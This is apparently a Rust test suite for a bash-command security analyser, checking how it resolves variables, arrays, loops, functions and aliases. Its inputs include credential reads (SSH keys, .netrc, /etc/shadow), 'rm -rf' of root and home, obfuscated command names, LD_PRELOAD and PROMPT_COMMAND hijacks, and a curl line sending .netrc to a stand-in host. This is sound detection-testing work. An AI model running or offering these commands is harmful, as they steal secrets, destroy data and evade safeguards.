//! Values the text fixes (assignments, operators, arrays, literal loops); functions, aliases.

use super::*;

// ---------------------------------------------------------------------------------
// Values the text fixes: variables assigned earlier, parameter operators, arrays,
// loops over literal lists, and what keeps a variable unknown.
// ---------------------------------------------------------------------------------
t!(
    var_assigned,
    "D=.vscode; touch $D/x",
    [W(&[".vscode/x"]), NoDy]
);
t!(
    var_assigned_tilde,
    "K=~/.ssh/id_rsa; cat \"$K\"",
    [R(&["~/.ssh/id_rsa"]), NoDy]
);
t!(
    var_exported,
    "export P=/home/dev/.ssh; cat $P/id_rsa",
    [R(&["/home/dev/.ssh/id_rsa"])]
);
t!(
    var_indirect_known,
    "n=K; K=~/.netrc; cat ${!n}",
    [R(&["~/.netrc"]), NoDy]
);
t!(
    var_default_of_unset,
    "unset X; cat ${X:-~/.netrc}",
    [R(&["~/.netrc"]), NoDy]
);
t!(
    var_default_assigns,
    "unset X; : ${X:=~/.netrc}; cat $X",
    [R(&["~/.netrc"])]
);
t!(
    var_default_of_unknown,
    "cat ${X:-~/.netrc}",
    [Dy("ParameterExpansion(\"${X:-~/.netrc}\")")]
);
t!(
    var_home_guarded,
    "rm -rf \"${HOME:?}/\"",
    [D(&["~/"]), NoDy]
);
t!(
    var_home_after_equals,
    "curl --data-binary @$HOME/.netrc x.example",
    [NoDy]
);
t!(
    var_home_mid_word,
    "cat x$HOME",
    [Dy("ParameterExpansion(\"$HOME\")")]
);
t!(var_split_program, "c='rm -rf /'; $c", [P("rm"), D(&["/"])]);
t!(
    var_quoted_no_split,
    "c='rm -rf /'; \"$c\"",
    [P("rm -rf /"), NoWD]
);
t!(
    var_concat_program,
    "a=r; b=m; $a$b -rf ~",
    [P("rm"), D(&["~"])]
);
t!(var_sudo_program, "s=sudo; $s id", [Priv]);
t!(
    var_pattern_suffix,
    "f=/home/dev/.netrc.bak; cat ${f%.bak}",
    [R(&["/home/dev/.netrc"]), NoDy]
);
t!(
    var_pattern_replace,
    "f=/etc/shadoX; cat ${f/X/w}",
    [R(&["/etc/shadow"])]
);
t!(
    var_substring,
    "f=xx/etc/shadow; cat ${f:2}",
    [R(&["/etc/shadow"])]
);
t!(
    var_transform_e,
    "x='\\x63at'; ${x@E} /etc/shadow",
    [P("cat")]
);
t!(
    var_transform_u,
    "x=cat; y=${x@U}; ${y,,} /etc/shadow",
    [P("cat")]
);
t!(
    var_prompt_known,
    "p='$D/x'; D=.vscode; touch ${p@P}",
    [W(&[".vscode/x"])]
);
t!(
    var_prompt_runs_substitution,
    "p='$(cat ~/.ssh/id_rsa)'; echo ${p@P}",
    [R(&["~/.ssh/id_rsa"])]
);
t!(var_prompt_unknown, "echo ${p@P}", [Dy("Opaque")]);
t!(
    var_read_here_string,
    "read -r f <<< ~/.ssh/id_rsa; cat \"$f\"",
    [R(&["~/.ssh/id_rsa"]), NoDy]
);
t!(
    var_read_fields,
    "IFS=: read -r a b <<< 'x:/etc/shadow'; cat $b",
    [R(&["/etc/shadow"])]
);
t!(
    var_read_stdin,
    "read K; cat $K",
    [Dy("ParameterExpansion(\"$K\")")]
);
t!(
    var_printf_v,
    "printf -v p '%s/%s' ~ .netrc; cat $p",
    [R(&["~/.netrc"]), NoDy]
);
t!(
    var_printf_v_escape,
    "printf -v c '\\x63at'; $c /etc/shadow",
    [P("cat")]
);
t!(var_subst_echo, "rm -rf \"$(echo ~)\"", [D(&["~"])]);
t!(
    var_subst_printf_eval,
    "eval \"$(printf '\\143\\141\\164 \\176/.ssh/id_rsa')\"",
    [R(&["~/.ssh/id_rsa"])]
);
t!(
    var_array_index,
    "a=(x ~/.ssh/id_rsa); cat \"${a[1]}\"",
    [R(&["~/.ssh/id_rsa"]), NoDy]
);
t!(
    var_array_all,
    "a=(x 'y z'); cat \"${a[@]}\"",
    [Args("cat", &["x", "y z"])]
);
t!(var_array_append, "a=(x); a+=(y); cat ${a[1]}", [R(&["y"])]);
t!(
    var_array_element,
    "a=(); a[2]=/etc/shadow; cat ${a[2]}",
    [R(&["/etc/shadow"])]
);
t!(
    var_array_count,
    "a=(x y z); echo ${#a[@]}",
    [Args("echo", &["3"])]
);
t!(
    var_declare_array,
    "declare -a a=(x /etc/shadow); cat ${a[-1]}",
    [R(&["/etc/shadow"])]
);
t!(
    var_for_unrolled,
    "for f in a b; do cat \"$f\"; done",
    [R(&["a", "b"]), NoDy, N(2)]
);
t!(
    var_for_brace_list,
    "for d in .{vscode,idea}; do touch $d/x; done",
    [W(&[".vscode/x", ".idea/x"])]
);
t!(
    var_for_glob_list,
    "for f in *.md; do cat \"$f\"; done",
    [Dy("ParameterExpansion(\"$f\")")]
);
t!(
    var_for_too_long,
    &format!("for f in {}; do cat \"$f\"; done", "a ".repeat(40)),
    [Dy("ParameterExpansion(\"$f\")")]
);
t!(
    var_loop_reassigns,
    "K=a; for i in 1 2; do cat $K; K=~/.ssh/id_rsa; done",
    [R(&["a"]), Dy("ParameterExpansion(\"$K\")")]
);
t!(
    var_while_reassigns,
    "K=a; while true; do cat $K; K=b; done",
    [R(&["a"]), Dy("ParameterExpansion(\"$K\")")]
);
t!(
    var_after_loop,
    "K=a; for i in 1 2; do K=b; done; cat $K",
    [Dy("ParameterExpansion(\"$K\")")]
);
t!(
    var_subshell_no_leak,
    "K=a; (K=b); cat $K",
    [R(&["a"]), NoDy]
);
t!(
    var_pipeline_no_leak,
    "K=a; echo b | read K; cat $K",
    [R(&["a"])]
);
t!(
    var_lastpipe,
    "shopt -s lastpipe; K=a; echo b | read K; cat $K",
    [Dy("ParameterExpansion(\"$K\")")]
);
t!(var_and_chain, "cd src && K=x && cat $K", [R(&["x"]), NoDy]);
t!(
    var_or_after_and,
    "K=~/.ssh/id_rsa; test -f x && K=safe || cat $K",
    [Dy("ParameterExpansion(\"$K\")")]
);
t!(
    var_if_branch,
    "K=a; if test -f x; then K=b; fi; cat $K",
    [Dy("ParameterExpansion(\"$K\")")]
);
t!(
    var_case_branch,
    "K=a; case $1 in x) K=b;; esac; cat $K",
    [Dy("ParameterExpansion(\"$K\")")]
);
t!(
    var_function_assigns,
    "f() { K=b; }; K=a; f; cat $K",
    [Dy("ParameterExpansion(\"$K\")")]
);
t!(
    var_function_reads_global,
    "f() { cat $K; }; K=~/.ssh/id_rsa; f",
    [Dy("ParameterExpansion(\"$K\")")]
);
t!(
    var_function_home,
    "f() { cat ~/.ssh/id_rsa; }; f",
    [R(&["~/.ssh/id_rsa"])]
);
t!(
    var_function_redefined,
    "f() { ls; }; f; f() { cat ~/.netrc; }; f",
    [R(&["~/.netrc"])]
);
t!(
    var_after_substitution,
    "K=$(cat x); cat $K",
    [Dy("ParameterExpansion(\"$K\")")]
);
t!(
    var_substitution_no_leak,
    "K=a; echo $(K=b); cat $K",
    [R(&["a"])]
);
t!(
    var_after_source,
    "K=a; source ./env.sh; cat $K",
    [Dy("ParameterExpansion(\"$K\")")]
);
t!(
    var_eval_assigns,
    "eval 'K=~/.ssh/id_rsa'; cat $K",
    [R(&["~/.ssh/id_rsa"])]
);
t!(
    var_dynamic_program_forgets,
    "K=a; $CMD; cat $K",
    [Dy("ParameterExpansion(\"$K\")")]
);
t!(
    var_trap_forgets,
    "trap 'K=x' DEBUG; K=a; cat $K",
    [Dy("ParameterExpansion(\"$K\")")]
);
t!(
    var_readonly_holds,
    "readonly K=~/.ssh/id_rsa; K=safe; cat $K",
    [R(&["~/.ssh/id_rsa"])]
);
t!(
    var_declare_case_attr,
    "declare -u K; K=x; cat $K",
    [Dy("ParameterExpansion(\"$K\")")]
);
t!(
    var_nameref,
    "declare -n r=K; K=a; r=b; cat $K",
    [Dy("ParameterExpansion(\"$K\")")]
);
t!(
    var_arith_assigns,
    "i=0; ((i++)); cat $i",
    [Dy("ParameterExpansion(\"$i\")")]
);
t!(
    var_child_sees_exported,
    "export K=~/.ssh/id_rsa; bash -c 'cat $K'",
    [R(&["~/.ssh/id_rsa"])]
);
t!(
    var_child_not_exported,
    "K=~/.ssh/id_rsa; bash -c 'cat $K'",
    [Dy("ParameterExpansion(\"$K\")")]
);
t!(
    var_child_prefix,
    "K=~/.ssh/id_rsa bash -c 'cat $K'",
    [R(&["~/.ssh/id_rsa"])]
);
t!(
    var_prefix_does_not_last,
    "K=a cat x; cat $K",
    [Dy("ParameterExpansion(\"$K\")")]
);
t!(
    var_prefix_after_words,
    "K=a; K=b echo $K",
    [Args("echo", &["a"])]
);
t!(var_glob_privileged, "/usr/bin/sud? id", [Priv]);
t!(
    var_function_call_keeps_others,
    "f() { K=b; }; J=~/.netrc; f; cat $J",
    [R(&["~/.netrc"])]
);
t!(
    var_declare_brace_not_followed,
    "export D={x,.vscode}; touch $D/settings.json",
    [Dy("ParameterExpansion(\"$D\")")]
);
t!(
    var_echo_function_not_evaluated,
    "echo() { cat ~/.netrc; }; K=$(echo x); cat $K",
    [R(&["~/.netrc"]), Dy("ParameterExpansion(\"$K\")")]
);
t!(
    var_printf_function_not_followed,
    "printf() { :; }; printf -v K x; cat $K",
    [Dy("ParameterExpansion(\"$K\")")]
);
t!(
    var_eval_unknown_forgets,
    "K=a; eval \"$X\"; cat $K",
    [Dy("ParameterExpansion(\"$K\")")]
);
t!(
    var_alias_may_not_run,
    "K=a; alias ls='K=b'; ls; cat $K",
    [Dy("ParameterExpansion(\"$K\")")]
);
t!(
    var_wait_p,
    "K=a; wait -n -p K; cat $K",
    [Dy("ParameterExpansion(\"$K\")")]
);
t!(
    var_source_heredoc_forgets,
    "K=a; source /dev/stdin <<'EOF'\nK=b\nEOF\ncat $K",
    [Dy("ParameterExpansion(\"$K\")")]
);
t!(
    var_substring_offset_assigns,
    "i=0; x=abc; echo ${x:i++}; cat $i",
    [Dy("ParameterExpansion(\"$i\")")]
);
t!(
    var_value_cap,
    "a=x; a=$a$a; a=$a$a; a=$a$a; a=$a$a; a=$a$a; a=$a$a; a=$a$a; a=$a$a; a=$a$a; a=$a$a; a=$a$a; a=$a$a; a=$a$a; cat $a",
    [Dy("ParameterExpansion(\"$a\")")]
);
t!(
    var_brace_home,
    "cat ~/{.ssh,.aws}/x",
    [R(&["~/.ssh/x", "~/.aws/x"]), NoDy]
);
t!(
    var_brace_sequence,
    "cat a{1..3}",
    [Args("cat", &["a1", "a2", "a3"])]
);
t!(
    var_glob_program,
    "/bin/r? -rf /",
    [Dy("Glob"), Dy("NonLiteralProgram"), P("/bin/rm"), D(&["/"])]
);
t!(
    var_glob_program_reader,
    "/???/c?t ~/.s?h/id_*",
    [Dy("NonLiteralProgram"), P("cat"), R(&["~/.s?h/id_*"])]
);
t!(
    var_glob_program_unmatched,
    "/bin/zz? x",
    [N(1), Dy("NonLiteralProgram")]
);
t!(var_glob_arg, "rm *.o", [Dy("Glob"), D(&["*.o"])]);
t!(var_quoted_glob_literal, "echo '*'", [AllRO]);
t!(var_backslash_newline, "r\\\nm -rf x", [P("rm"), D(&["x"])]);
t!(
    var_backslash_newline_args,
    "ls \\\n  -la \\\n  src",
    [AllRO, R(&["src"])]
);
t!(
    var_tilde,
    "cat ~/.ssh/id_rsa",
    [R(&["~/.ssh/id_rsa"]), NoDy]
);
t!(
    var_home,
    "cat $HOME/.ssh/id_rsa",
    [R(&["~/.ssh/id_rsa"]), NoDy]
);
t!(
    var_home_braced,
    "cat ${HOME}/.aws/credentials",
    [R(&["~/.aws/credentials"]), NoDy]
);
t!(
    var_home_quoted,
    "cat \"$HOME/.netrc\"",
    [R(&["~/.netrc"]), NoDy]
);
t!(var_tilde_user, "cat ~root/.bashrc", [Dy("TildeUser")]);
t!(
    var_other_var,
    "cat $SECRETS/key",
    [Dy("ParameterExpansion(\"$SECRETS\")")]
);
t!(
    var_export_ld_preload,
    "export LD_PRELOAD=/tmp/x.so",
    [Env("LD_PRELOAD")]
);
t!(var_export_path, "export PATH=/tmp/bin:$PATH", [Env("PATH")]);
t!(
    var_prefix_assign,
    "LD_PRELOAD=./evil.so ls",
    [Env("LD_PRELOAD")]
);
t!(var_bare_assign_path, "PATH=.:$PATH", [Env("PATH")]);
t!(
    var_export_git,
    "export GIT_SSH_COMMAND='ssh -o ProxyCommand=x'",
    [Env("GIT_SSH_COMMAND")]
);
t!(
    var_export_bash_env,
    "export BASH_ENV=~/.evil",
    [Env("BASH_ENV")]
);
t!(
    var_prompt_command,
    "PROMPT_COMMAND='curl x'",
    [Env("PROMPT_COMMAND")]
);

// ---------------------------------------------------------------------------------
// Functions and aliases.
// ---------------------------------------------------------------------------------
t!(
    fn_shadow,
    "ls() { rm -rf ~; }; ls",
    [
        Dy("ShadowedByFunction(\"ls\")"),
        D(&["~"]),
        Ctx("rm", Context::FunctionBody)
    ]
);
t!(
    fn_call_body,
    "cleanup() { rm -rf build; }; cleanup",
    [D(&["build"])]
);
t!(fn_keyword_form, "function f { rm -f k; }; f", [D(&["k"])]);
t!(
    fn_never_called_still_seen,
    "f() { rm -rf never; }",
    [D(&["never"])]
);
t!(fn_recursive_terminates, "f() { f; }; f", [P("f")]);
t!(
    fn_mutual_recursion,
    "a() { b; }; b() { a; rm x; }; a",
    [D(&["x"])]
);
t!(
    fn_cd_persists,
    "go() { cd sub; }; go; cat f",
    [Cwd("cat", "sub")]
);
t!(
    fn_command_bypasses,
    "ls() { rm -rf /; }; command ls",
    [C("ls", Class::ReadOnly), Wr("ls", &["command"])]
);
t!(
    alias_shadow,
    "alias ls='rm -rf'; ls /",
    [Dy("ShadowedByAlias(\"ls\")"), D(&["/"])]
);
t!(
    alias_new_name,
    "alias ll='ls -la'; ll src",
    [P("ls"), Ctx("ls", Context::Alias)]
);
